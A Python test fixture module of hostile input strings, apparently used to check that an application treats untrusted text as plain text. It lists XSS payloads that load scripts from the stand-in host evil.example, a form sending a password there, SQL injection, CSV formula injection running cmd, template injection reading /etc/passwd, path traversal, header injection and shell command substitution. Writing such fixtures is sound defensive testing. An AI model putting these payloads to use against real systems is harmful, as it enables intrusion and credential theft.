"""Texts that people, agents and web pages may send, one of each kind that has ever hurt somebody. Whoever
tests that a text stays a text takes them from here."""

# What would run when one of these became markup notes it here; what would load something loads it from there.
RAN, ELSEWHERE = "window.pwned=1", "//evil.example"

MARKUP = {
    "a script": f"<script>{RAN};alert(1)</script><script src={ELSEWHERE}/x.js></script>",
    "a picture that fails": f'<img src=x onerror="{RAN}"><img src={ELSEWHERE}/x.png>',
    "a drawing": f"<svg onload={RAN}><animate onbegin='{RAN}' attributeName=x dur=1s /><use href=#x /></svg>"
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RAN}></style></mglyph></math>",
    "things that open by themselves": f"<details open ontoggle={RAN}><summary>x</summary></details>"
    f"<input autofocus onfocus={RAN}><video><source onerror={RAN}></video>",
    "a frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'
    f"<iframe src='javascript:{RAN}'></iframe><object data={ELSEWHERE}/x.swf></object>"
    f"<embed src='javascript:{RAN}'>",
    "another base and style": f"<base href={ELSEWHERE}/><link rel=stylesheet href={ELSEWHERE}/x.css>"
    f"<style>@import '{ELSEWHERE}/y.css'; body {{ display: none }}</style><p style='position:fixed'>x</p>",
    "a form": f"<form action={ELSEWHERE}/ id=x><input name=password></form><button form=x>Sign in</button>"
    f"<a href='jAvAsCrIpT&#58;{RAN}'>x</a>",
    "the ends of elements": "</script></textarea></title></style></template></select></option></button>"
    f"</a></table></iframe></noscript>--><!-- ]]><![CDATA[ <script>{RAN}</script> <!--",
    "the end of a quoted value": f'" autofocus onfocus="{RAN}" x="><script>{RAN}</script>',
    "the end of a value in single quotes": f"' onmouseover='{RAN}' autofocus onfocus='{RAN}' x='><b>",
    "the end of a value without quotes": f"x onfocus={RAN} autofocus ` onclick=`{RAN}`",
    "broken tags": f"<<b <a href='x' <!doctype <?xml ?><scr\x01ipt>{RAN}</scr<b>ipt><p/onclick={RAN}>",
    "requests of the page": '<div hx-get="/me/" hx-trigger="load" hx-target="body" hx-swap="innerHTML">'
    f"<i hx-get={ELSEWHERE}/ hx-trigger=load hx-on:load={RAN} hx-on:click={RAN} hx-vals='js:{{x:{RAN}}}'></i>"
    "<hx-partial hx-target=body>gone</hx-partial></div>",
}

OTHERS = {
    "a program as an address": f"javascript:{RAN}// data:text/html,<script>{RAN}</script> vbscript:x",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp &#0; &#xD800; &unknown; & &&",
    "a template": "{{ settings.SECRET_KEY }}{% debug %}{# gone #}{% include '/etc/passwd' %}"
    "${7*7}#{7*7}<%= 7*7 %>",
    "formats": "%s %d %(name)s %n %% {0} {name!r} {} %",
    "a search": 'NEAR(a b, 5) AND OR NOT * ^ - word* col:word "unclosed (a "" b)',
    "a query": "'; DROP TABLE runs_run; --' OR '1'='1' /* \\' */ %_\\",
    "a formula": "=cmd|'/C calc'!A0",
    "a sum": '+SUM(1;1)*HYPERLINK("http://evil.example","x")',
    "a difference": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)",
    "a formula after a tab": "\t=1+1",
    "a formula after a line end": "\r=1+1",
    "a formula in wide letters": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "more cells": 'a,b;c\t"d\n"=e"',
    "the other way round": "\u202eexe.tidua\u202c \u2066x \u2067y\u2069 \u200f\u05e9\u05dc\u05d5\u05dd",
    "nothing to see": "a\u200bb\u200c\u2060\ufeff\u00ad\u034f\u180ec",
    "a pile": "Z" + "\u0300\u0301\u0327\u0488" * 60,
    "joined pictures": "\U0001f469\u200d\U0001f680 \U0001f3f3\ufe0f\u200d\U0001f308 1\ufe0f\u20e3 "
    + "\U0001f600" * 200,
    "letters that are others": "\u0130\u0131\u00df\ufb01\u0149\u212a\u017f \u0430dmin \uff41\uff44\uff4d",
    "controls": "\x01\x07\x08\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f\x85\u2028\u2029\ufffe",
    "a NUL": "a\x00b",
    "one long word": "W" * 10_000,
    "many lines": "\n".join(f"line {number}" for number in range(200)),
    "headers": "x\r\nSet-Cookie: pwned=1\r\nBcc: all@evil.example\r\n\r\nHTTP/1.1 200 OK",
    "escaped": "%00%0d%0aX:%20y %2e%2e%2f %3Cscript%3E %c0%ae %ff %u0041 %",
    "a way out": "../../../../etc/passwd ..\\..\\boot.ini C:\\con file:///etc/passwd",
    "a file": 'invoice\u202efdp.exe"; filename="x.exe.pdf',
    "an object of a program": '{"__proto__": {"x": 1}, "$ne": null, "query": "{ __schema { types } }"}]})',
    "a command": "$(id); `id` | id && id > x ' \" \\ ! # ~ $HOME",
    "marks of a text": f"[x](javascript:{RAN}) ![x]({ELSEWHERE}/x.png) <http://evil.example> **b** `c`",
    "an address": "//evil.example/\\@evil.example https:evil.example http://[::1 #@",
    "a number": "9" * 400,
    "numbers of others": "\u0663 1e999 NaN -0 0x1F \u00b2 \uff11",
    "only a word": "none",
}

TEXTS = MARKUP | OTHERS
# Nothing to read in it: as good as an empty field.
BLANK = " \t\r\n\u00a0\u3000"
# Giga can send in JSON what no form can: half of a pair.
OF_GIGA = TEXTS | {"half a pair": "a\ud800b"}
